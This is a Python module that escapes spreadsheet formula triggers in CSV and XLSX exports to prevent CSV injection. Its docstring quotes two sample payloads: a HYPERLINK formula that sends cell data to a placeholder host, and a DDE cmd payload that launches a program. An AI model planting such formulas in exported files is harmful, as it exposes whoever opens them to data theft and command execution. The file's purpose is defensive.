"""Cells a spreadsheet must not run as formulas (OWASP "CSV injection"), for every CSV or XLSX we write.

Excel, LibreOffice and Google Sheets treat a cell that begins with ``=``, ``+``, ``-`` or ``@``
(and, after a tab or carriage return, whatever follows) as a formula: an equipment imported as
``=HYPERLINK("http://x/?"&A1, "…")`` or ``+cmd|' /C calc'!A0`` would run on the computer of
whoever opens our export. OWASP's rule is to prefix such text with ``'``, which spreadsheets read
as "this is text" and do not show. Numbers stay numbers: a negative value held as a number is
written as a number (a spreadsheet reads ``-0.5`` as minus a half, not as a formula), and so is
text that is nothing but a plain number, such as ``-0,01``.

Our importers take the prefix off again (``unescape_cell``), so every export imports back as it was.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any, Final

import pandas as pd

FORMULA_TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER: Final = re.compile(r"[+\-]?\d+(?:[.,]\d+)?(?:[eE][+\-]?\d{1,3})?")


def escape_cell(value: Any) -> Any:
    """``'`` + text that a spreadsheet would run; every other value (numbers, dates, None) unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def unescape_cell(text: str) -> str:
    """The text ``escape_cell`` was given (imports read our own exports back unchanged)."""
    if text.startswith("'") and text[1:2] and text[1:].startswith(FORMULA_TRIGGERS):
        return text[1:]
    return text


def unescape_cells(cells: Iterable[str]) -> list[str]:
    """``unescape_cell`` of every cell of a row; one without a leading ``'`` (nearly all) is kept as it is."""
    return [unescape_cell(cell) if cell.startswith("'") else cell for cell in cells]


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy whose text cells and headers are escaped; numeric and date columns are left as they are."""
    safe = frame.copy()
    for column in safe.columns:
        if not (
            pd.api.types.is_numeric_dtype(safe[column]) or pd.api.types.is_datetime64_any_dtype(safe[column])
        ):
            safe[column] = safe[column].map(escape_cell)
    safe.columns = [escape_cell(str(column)) for column in safe.columns]
    return safe


def frame_to_csv(frame: pd.DataFrame, **options: Any) -> str:
    """``DataFrame.to_csv`` of the escaped frame (``index=False`` unless told otherwise)."""
    options.setdefault("index", False)
    return safe_frame(frame).to_csv(**options)


def rows_to_csv(rows: Iterable[Sequence[Any]], *, lineterminator: str = "\r\n") -> str:
    """CSV text of plain rows, every cell escaped."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=lineterminator)
    writer.writerows([escape_cell(cell) for cell in row] for row in rows)
    return buffer.getvalue()


_SPLIT_BEFORE_TRIGGER: Final = re.compile(r"([,;\t])(?=[=+\-@])")


def comment_line(text: str) -> str:
    """A first line ``# Made 01/12/2026 09:26; filters: …`` that no spreadsheet runs as a formula.

    The line carries what the user typed (a search) or the URL held, and a spreadsheet splits it
    at commas or semicolons (Vietnamese Excel uses ``;``): a piece after a separator must not begin
    a formula, and a line break must not start a row. So breaks become spaces, a separator
    directly before ``=``, ``+``, ``-`` or ``@`` gets a space after it, and a double quote (which
    would open a quoted cell running into the data) becomes a typographic one.
    """
    flat = " ".join(text.replace('"', "”").splitlines())
    return "# " + _SPLIT_BEFORE_TRIGGER.sub(r"\1 ", flat) + "\n"
